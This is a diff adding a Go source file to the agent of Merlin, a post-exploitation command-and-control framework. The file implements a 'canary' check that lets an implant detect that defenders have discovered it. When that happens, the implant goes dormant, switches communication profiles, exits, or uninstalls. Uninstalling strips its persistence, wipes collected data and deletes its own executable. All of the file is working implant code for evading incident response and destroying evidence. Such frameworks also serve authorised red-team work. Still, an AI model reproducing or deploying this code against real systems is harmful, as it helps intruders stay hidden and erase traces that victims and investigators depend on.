@@ -0,0 +1,322 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"context"
+	"fmt"
+	"io"
+	"math/rand"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"strings"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/clients"
+	"github.com/Ne0nd0g/merlin-agent/commands"
+	"github.com/Ne0nd0g/merlin-agent/persistence"
+)
+
+// canaryInterval is the least amount of time between canary checks so a short sleep doesn't make the canary noisy
+const canaryInterval = 15 * time.Minute
+
+// canaryTimeout is how long a canary check can take before the agent assumes it has not been burned
+const canaryTimeout = 15 * time.Second
+
+// canary is an operator controlled hostname or URL the agent checks to learn that it has been burned
+type canary struct {
+	kind    string    // kind is dns or url
+	host    string    // host is the hostname a dns canary resolves
+	ips     []string  // ips are the addresses that mean the agent is burned, any address when empty
+	url     string    // url is the address a url canary fetches
+	marker  string    // marker is the text in the response body that means the agent is burned, any 200 OK when empty
+	action  string    // action is what the agent does when it is burned: dormant, profile:<name>, exit, or uninstall
+	checked time.Time // checked is when the canary was last checked
+}
+
+// parseCanary parses a canary check and the action taken when it indicates the agent is burned. Checks are
+// dns:<hostname>[=<ip>,...], burned when the hostname resolves to one of the addresses or, without any, resolves at all,
+// and url:<URL>[#<marker>], burned when fetching the URL returns 200 OK with the marker, if any, in the body
+func parseCanary(check, action string) (*canary, error) {
+	if check == "" {
+		return nil, nil
+	}
+	c := &canary{}
+	kind, value, ok := strings.Cut(check, ":")
+	if !ok || value == "" {
+		return nil, fmt.Errorf("the canary %s must be dns:<hostname>[=<ip>,...] or url:<URL>[#<marker>]", check)
+	}
+	c.kind = strings.ToLower(kind)
+	switch c.kind {
+	case "dns":
+		host, ips, _ := strings.Cut(value, "=")
+		c.host = host
+		for _, ip := range strings.Split(ips, ",") {
+			if ip = strings.TrimSpace(ip); ip == "" {
+				continue
+			}
+			parsed := net.ParseIP(ip)
+			if parsed == nil {
+				return nil, fmt.Errorf("the canary address %s is not an IP address", ip)
+			}
+			c.ips = append(c.ips, parsed.String())
+		}
+	case "url":
+		u, err := url.Parse(value)
+		if err != nil || (u.Scheme != "http" && u.Scheme != "https") {
+			return nil, fmt.Errorf("the canary URL %s must be an http or https URL", value)
+		}
+		c.marker, u.Fragment = u.Fragment, ""
+		c.url = u.String()
+	default:
+		return nil, fmt.Errorf("%s is not a canary type, use dns or url", kind)
+	}
+	if err := c.setAction(action); err != nil {
+		return nil, err
+	}
+	return c, nil
+}
+
+// setAction validates and sets what the agent does when the canary indicates it is burned; the default is dormant
+func (c *canary) setAction(action string) (err error) {
+	if strings.TrimSpace(action) == "" {
+		action = "dormant"
+	}
+	c.action, err = parseBurnAction(action)
+	return
+}
+
+// parseBurnAction validates what the agent does when it learns it is burned: dormant, profile:<name>, exit, or uninstall
+func parseBurnAction(action string) (string, error) {
+	action = strings.TrimSpace(action)
+	switch {
+	case strings.EqualFold(action, "dormant"), strings.EqualFold(action, "exit"), strings.EqualFold(action, "uninstall"):
+		return strings.ToLower(action), nil
+	case strings.HasPrefix(strings.ToLower(action), "profile:") && len(action) > len("profile:"):
+		return "profile:" + action[len("profile:"):], nil
+	}
+	return "", fmt.Errorf("%s is not a burn action, use dormant, profile:<name>, exit, or uninstall", action)
+}
+
+// String returns the canary check and its action
+func (c *canary) String() string {
+	if c == nil {
+		return "disabled"
+	}
+	check := fmt.Sprintf("dns:%s", c.host)
+	if len(c.ips) > 0 {
+		check += "=" + strings.Join(c.ips, ",")
+	}
+	if c.kind == "url" {
+		check = "url:" + c.url
+		if c.marker != "" {
+			check += "#" + c.marker
+		}
+	}
+	return fmt.Sprintf("%s, action %s", check, c.action)
+}
+
+// burned checks the canary and returns a description of why the agent is burned, or an empty string if it is not.
+// A canary that can't be checked is treated as not burned so a network outage doesn't trigger the action
+func (c *canary) burned() string {
+	c.checked = time.Now()
+	ctx, cancel := context.WithTimeout(context.Background(), canaryTimeout)
+	defer cancel()
+
+	switch c.kind {
+	case "dns":
+		addrs, err := clients.Dialer().Resolver.LookupHost(ctx, c.host)
+		if err != nil || len(addrs) == 0 {
+			return ""
+		}
+		if len(c.ips) == 0 {
+			return fmt.Sprintf("the %s canary resolved to %s", c.host, strings.Join(addrs, ", "))
+		}
+		for _, addr := range addrs {
+			for _, ip := range c.ips {
+				if net.ParseIP(addr).Equal(net.ParseIP(ip)) {
+					return fmt.Sprintf("the %s canary resolved to %s", c.host, addr)
+				}
+			}
+		}
+	case "url":
+		req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.url, nil)
+		if err != nil {
+			return ""
+		}
+		client := &http.Client{Transport: &http.Transport{Proxy: clients.Proxy, DialContext: clients.Dialer().DialContext}}
+		resp, err := client.Do(req)
+		if err != nil {
+			return ""
+		}
+		defer resp.Body.Close()
+		if resp.StatusCode != http.StatusOK {
+			return ""
+		}
+		if c.marker == "" {
+			return fmt.Sprintf("the %s canary returned %s", c.url, resp.Status)
+		}
+		body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
+		if err == nil && strings.Contains(string(body), c.marker) {
+			return fmt.Sprintf("the %s canary returned the %q marker", c.url, c.marker)
+		}
+	}
+	return ""
+}
+
+// checkCanary checks the canary, at most once every canaryInterval, and applies its action when the agent is burned.
+// It returns how long the agent goes dormant for, if that is the action
+func (a *Agent) checkCanary() (dormant time.Duration) {
+	if a.canary == nil || time.Since(a.canary.checked) < canaryInterval {
+		return
+	}
+	reason := a.canary.burned()
+	if reason == "" {
+		return
+	}
+	if cli.Enabled {
+		cli.Message(cli.WARN, fmt.Sprintf("The agent is burned, applying the %s canary action: %s", a.canary.action, reason))
+	}
+	return a.burn(a.canary.action, reason)
+}
+
+// burn applies the action taken when the agent learns it is burned and queues a result describing it so the operator
+// learns about it if the server is reached again
+func (a *Agent) burn(action, reason string) (dormant time.Duration) {
+	switch {
+	case action == "exit":
+		os.Exit(0)
+	case action == "uninstall":
+		a.uninstall()
+		os.Exit(0)
+	case strings.HasPrefix(action, "profile:"):
+		name := strings.TrimPrefix(action, "profile:")
+		if a.profile == name {
+			return
+		}
+		if err := a.setProfile(name); err != nil {
+			action = fmt.Sprintf("could not switch to the %s profile and went dormant: %s", name, err)
+			break
+		}
+		a.burned = fmt.Sprintf("Burned at %s: %s, the agent switched to the %s profile", time.Now().UTC().Format(time.RFC3339), reason, name)
+		return
+	}
+	dormant = dormantMin + time.Duration(rand.Int63n(int64(dormantMax-dormantMin))) // #nosec G404 - Does not need to be cryptographically secure
+	if action == "dormant" {
+		action = fmt.Sprintf("went dormant for %s", dormant.Round(time.Minute))
+	}
+	a.burned = fmt.Sprintf("Burned at %s: %s, the agent %s", time.Now().UTC().Format(time.RFC3339), reason, action)
+	return
+}
+
+// uninstall removes the persistence the agent installed, wipes everything it collected, and deletes its executable
+func (a *Agent) uninstall() {
+	for _, record := range persistence.List() {
+		if _, err := persistence.Remove(record.ID); err != nil {
+			if cli.Enabled {
+				cli.Message(cli.WARN, err.Error())
+			}
+		}
+	}
+	commands.Wipe(jobs.Command{})
+	// Windows does not allow a running executable to be deleted
+	if executable, err := os.Executable(); err == nil {
+		_ = os.Remove(executable)
+	}
+}
+
+// sendBurned returns the last burn action to the server once it is reached again
+func (a *Agent) sendBurned() {
+	if a.burned == "" {
+		return
+	}
+	jobsOut <- jobs.Job{
+		AgentID: a.ID,
+		Type:    jobs.RESULT,
+		Payload: jobs.Results{Stdout: a.burned},
+	}
+	a.burned = ""
+}
+
+// canaryControl returns the canary configuration or changes it
+// canary
+// canary check
+// canary set <dns:<hostname>[=<ip>,...]|url:<URL>[#<marker>]> [action]
+// canary action <dormant|profile:<name>|exit|uninstall>
+// canary off
+func (a *Agent) canaryControl(args []string) (results jobs.Results) {
+	if len(args) > 0 {
+		switch strings.ToLower(args[0]) {
+		case "check":
+			if a.canary == nil {
+				results.Stderr = "a canary is not configured"
+				return
+			}
+			if reason := a.canary.burned(); reason != "" {
+				results.Stdout = fmt.Sprintf("The canary is tripped, the %s action is applied at the next check in: %s\n", a.canary.action, reason)
+				a.canary.checked = time.Time{}
+			} else {
+				results.Stdout = "The canary is not tripped\n"
+			}
+		case "set":
+			if len(args) < 2 {
+				results.Stderr = "the canary set command requires a dns: or url: check"
+				return
+			}
+			var action string
+			if len(args) > 2 {
+				action = args[2]
+			} else if a.canary != nil {
+				action = a.canary.action
+			}
+			c, err := parseCanary(args[1], action)
+			if err != nil {
+				results.Stderr = err.Error()
+				return
+			}
+			a.canary = c
+		case "action":
+			if a.canary == nil || len(args) < 2 {
+				results.Stderr = "the canary action command requires a configured canary and an action"
+				return
+			}
+			if err := a.canary.setAction(args[1]); err != nil {
+				results.Stderr = err.Error()
+				return
+			}
+		case "off":
+			a.canary = nil
+		default:
+			results.Stderr = fmt.Sprintf("unknown canary command: %s", args[0])
+			return
+		}
+	}
+	results.Stdout += fmt.Sprintf("Canary: %s", a.canary)
+	if a.canary != nil && !a.canary.checked.IsZero() {
+		results.Stdout += fmt.Sprintf("\nLast Checked: %s", a.canary.checked.UTC().Format(time.RFC3339))
+	}
+	return
+}